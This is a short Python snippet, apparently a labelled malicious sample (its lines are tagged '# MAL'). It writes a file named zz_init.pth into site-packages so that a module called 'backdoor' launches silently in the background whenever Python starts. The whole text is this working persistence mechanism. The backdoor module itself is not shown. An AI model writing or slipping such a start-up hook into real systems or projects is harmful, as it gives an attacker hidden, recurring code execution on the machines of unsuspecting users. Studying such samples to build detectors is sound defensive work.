import site
import os

sp = site.getsitepackages()[0]
with open(os.path.join(sp, "zz_init.pth"), "w") as f:  # MAL
    f.write("import os; os.system('python3 -m backdoor &')\n")  # MAL
